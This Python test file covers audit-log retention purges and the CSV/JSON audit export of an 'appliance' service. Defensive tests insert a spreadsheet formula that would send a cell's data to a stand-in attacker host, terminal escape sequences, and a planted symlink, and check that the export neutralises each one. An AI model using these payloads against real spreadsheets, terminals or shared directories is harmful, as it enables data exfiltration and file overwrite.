"""Audit retention (issue 21): exactly the rows older than retention_days or beyond the
newest max_rows are deleted, in batches, the file shrinks (incremental vacuum), the
budget ledger is never touched; `appliance audit export` streams JSON lines or CSV
between two times with the key id, never the key."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest

from appliance.access.audit import COLUMNS
from appliance.access.retention import ensure_incremental_vacuum, iso, purge
from appliance.config import ConfigError, parse_config
from appliance.state.db import connect, path_in

from .conftest import PY, ROOT

DAY = 86400.0
NOW = 1_800_000_000.0


def _fill(db, stamps: list[float], text: str = "") -> None:
    rows = [(ts, f"req-{i}", "k1", None, "m", "chat", "m#0", 200, 3, 4, 1.0, None, None, text or None, None, None, None, None)
            for i, ts in enumerate(stamps)]
    db.execute("BEGIN")
    db.executemany(f"INSERT INTO audit ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})", rows)
    db.execute("INSERT INTO usage_ledger (key_id, period_start, tokens) VALUES ('k1', 0, 7)")
    db.execute("COMMIT")


def _ids(db) -> list[str]:
    return [r[0] for r in db.execute("SELECT request_id FROM audit ORDER BY id")]


def test_retention_deletes_exactly_the_old_rows_in_batches_and_keeps_the_ledger(tmp_path):
    db = connect(tmp_path / "appliance.db")
    # Ten rows a day apart, the newest one day old: retention 4.5 days keeps the 4 newest.
    _fill(db, [NOW - (10 - i) * DAY for i in range(10)])
    pauses = []
    purged = purge(db, retention_days=4.5, max_rows=0, now=NOW, batch=2, pause=lambda: pauses.append(1))
    assert purged.by_age == 6 and purged.by_count == 0
    assert _ids(db) == ["req-6", "req-7", "req-8", "req-9"]
    assert len(pauses) == 3  # 6 rows in batches of 2: the hot path gets the lock between them
    assert db.execute("SELECT tokens FROM usage_ledger").fetchone() == (7,)
    # max_rows keeps the newest N, whatever their age.
    assert purge(db, retention_days=0, max_rows=3, now=NOW).by_count == 1
    assert _ids(db) == ["req-7", "req-8", "req-9"]
    assert purge(db, retention_days=0, max_rows=3, now=NOW) == purge(db, retention_days=0, max_rows=0, now=NOW)


def test_the_database_file_shrinks_after_a_purge(tmp_path):
    path = tmp_path / "appliance.db"
    db = connect(path)
    _fill(db, [NOW - 30 * DAY] * 5000, text="x" * 2000)  # ~10 MB of old rows with their text
    assert ensure_incremental_vacuum(db) and not ensure_incremental_vacuum(db)  # converted once
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    before = path.stat().st_size
    purge(db, retention_days=7, max_rows=0, now=NOW)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert _ids(db) == []
    assert path.stat().st_size < before / 2


@pytest.mark.parametrize(("snippet", "field"), [
    ("[audit]\nretention_days = -1\n", "audit.retention_days"),
    ("[audit]\nmax_rows = -5\n", "audit.max_rows"),
    ('[audit]\npurge_interval = "0s"\n', "audit.purge_interval"),
])
def test_bad_retention_settings_are_refused_naming_the_field(snippet, field):
    with pytest.raises(ConfigError, match=field.replace(".", r"\.")):
        parse_config(snippet)


def _export(cfg, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([PY, "-m", "appliance.cli", "audit", "export", "--config", str(cfg), *args],
                          capture_output=True, text=True, cwd=ROOT, timeout=60)


def test_audit_export_streams_jsonl_and_csv_between_two_times(tmp_path):
    cfg = tmp_path / "appliance.toml"
    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
    db = connect(path_in(tmp_path / "state"))
    _fill(db, [NOW - 3 * DAY, NOW - 2 * DAY, NOW - DAY])
    since, until = iso(NOW - 2.5 * DAY), iso(NOW - 0.5 * DAY)
    out = _export(cfg, "--since", since, "--until", until)
    assert out.returncode == 0, out.stderr
    rows = [json.loads(line) for line in out.stdout.splitlines()]
    assert [r["request_id"] for r in rows] == ["req-1", "req-2"]
    assert rows[0]["key_id"] == "k1" and rows[0]["ts"] == iso(NOW - 2 * DAY) and "exported 2 rows" in out.stderr
    written = tmp_path / "audit.csv"
    out = _export(cfg, "--format", "csv", "--since", since, "-o", str(written))
    assert out.returncode == 0, out.stderr
    table = list(csv.DictReader(io.StringIO(written.read_text())))
    assert [r["request_id"] for r in table] == ["req-1", "req-2"] and set(COLUMNS) <= set(table[0])
    assert _export(cfg, "--until", "2000-01-01").stdout == ""  # a date alone: its midnight, UTC
    bad = _export(cfg, "--since", "last tuesday")
    assert bad.returncode != 0 and "not an ISO date" in bad.stderr


def test_the_daemon_purges_old_rows_on_its_schedule_and_keeps_new_ones(daemons, tmp_path):
    import time

    from .conftest import fake_model, wait_until

    db = connect(path_in(tmp_path / "state"))
    _fill(db, [time.time() - 40 * DAY] * 50)
    db.close()
    d = daemons.start(fake_model("fake"), extra='[audit]\nretention_days = 30\npurge_interval = "1s"\n')
    with d.client() as c:
        assert c.post("/v1/completions", json={"model": "fake", "prompt": "hi", "max_tokens": 2}).status_code == 200
    db = connect(path_in(tmp_path / "state"))
    try:
        assert db.execute("PRAGMA auto_vacuum").fetchone()[0] == 2  # converted once, at start
        wait_until(lambda: db.execute("SELECT COUNT(*) FROM audit WHERE ts < ?", (time.time() - DAY,)).fetchone()[0]
                   == 0, 30, what="the old rows purged")
        wait_until(lambda: db.execute("SELECT COUNT(*) FROM audit").fetchone()[0] == 1, 30, what="the new row kept")
    finally:
        db.close()


def test_a_csv_export_neither_runs_a_clients_formula_in_a_spreadsheet_nor_its_escapes_in_a_terminal(tmp_path):
    """What a client sent (its model name, X-Request-Id, prompt) is in the audit rows: in
    CSV a cell starting with = + - @ is a spreadsheet formula (OWASP's CSV injection) and
    an escape sequence is obeyed by the terminal the export is printed to. JSON lines
    keep every value exactly (JSON escapes them)."""
    cfg = tmp_path / "appliance.toml"
    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
    db = connect(path_in(tmp_path / "state"))
    formula, prompt = '=HYPERLINK("http://evil.example/?"&A1)', "\x1b]0;PWNED\x07hi\r\nthere\x9b2J"
    db.execute(f"INSERT INTO audit ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})",
               (NOW, "@SUM(1+1)", None, None, formula, "chat", None, 404, None, None, 1.0, None, None, prompt, None, None, None, None))
    db.commit()
    out = _export(cfg, "--format", "csv")
    assert out.returncode == 0, out.stderr
    assert "\x1b" not in out.stdout and "\x9b" not in out.stdout
    row = next(csv.DictReader(io.StringIO(out.stdout)))
    assert row["model"] == "'" + formula and row["request_id"] == "'@SUM(1+1)"
    assert row["request_text"] == "\\x1b]0;PWNED\\x07hi\\x0d\nthere\\x9b2J"
    assert row["status"] == "404" and row["key_id"] == ""
    exact = json.loads(_export(cfg).stdout)
    assert exact["model"] == formula and exact["request_text"] == prompt


def test_an_export_into_a_shared_directory_writes_through_no_link_a_local_user_planted(tmp_path):
    """-o /tmp/audit.csv wrote /tmp/.audit.csv.partial, a name known in advance: a local
    user's link there made the export (run as root) overwrite the file it points to. The
    file appears whole, readable by its owner only (audit rows are not for everyone)."""
    cfg = tmp_path / "appliance.toml"
    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
    db = connect(path_in(tmp_path / "state"))
    _fill(db, [NOW])
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o1777)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (shared / ".audit.csv.partial").symlink_to(victim)
    out = _export(cfg, "--format", "csv", "-o", str(shared / "audit.csv"))
    assert out.returncode == 0, out.stderr
    assert victim.read_text() == "precious\n"
    written = shared / "audit.csv"
    assert not written.is_symlink() and "req-0" in written.read_text()
    assert written.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in shared.iterdir()) == [".audit.csv.partial", "audit.csv"]  # nothing else left


def test_an_export_it_cannot_write_says_where_in_one_line_and_a_closed_pipe_ends_it_quietly(tmp_path):
    """-o into a missing folder, or onto a folder, and `| head` were tracebacks."""
    cfg = tmp_path / "appliance.toml"
    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
    db = connect(path_in(tmp_path / "state"))
    _fill(db, [NOW + i for i in range(5000)])
    for output, why in ((tmp_path / "no" / "a.csv", "No such file or directory"), (tmp_path, "Is a directory")):
        out = _export(cfg, "-o", str(output))
        assert out.returncode == 1 and out.stderr == f"Error: cannot write {output}: {why}\n", out.stderr
    head = subprocess.run(f"{PY} -m appliance.cli audit export --config {cfg} | head -1", shell=True,
                          capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert head.stdout.startswith('{"id": 1') and head.stderr == "", head.stderr
